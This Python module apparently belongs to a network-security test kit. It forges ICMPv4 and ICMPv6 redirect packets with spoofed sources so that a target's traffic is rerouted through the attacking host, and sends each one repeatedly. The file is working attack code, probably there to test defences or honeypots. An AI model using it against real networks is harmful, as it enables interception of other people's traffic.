# SPDX-License-Identifier: Apache-2.0
"""ICMP redirects send machines outside through the intruder, or honeypots around the gateway."""
from kit import *


def attack(pot, out, family):
    quoted = tcp(out.ip(family), 1000, out.world(family), 80)
    for src in (pot.ip(family), out.host(family)):
        for code in range(4):
            if family == 4:
                packet = icmp(src, out.ip(4), 5, packed(pot.ip(4)) + quoted[:28], code)
            else:
                body = b"\0" * 4 + packed(pot.ip(6)) + packed(out.world(6)) + b"\2\1" + pot.mac
                packet = icmp(src, out.ip(6), 137, body, code, ttl=255)
            pot.send(*[pot.frame(packet)] * 20)
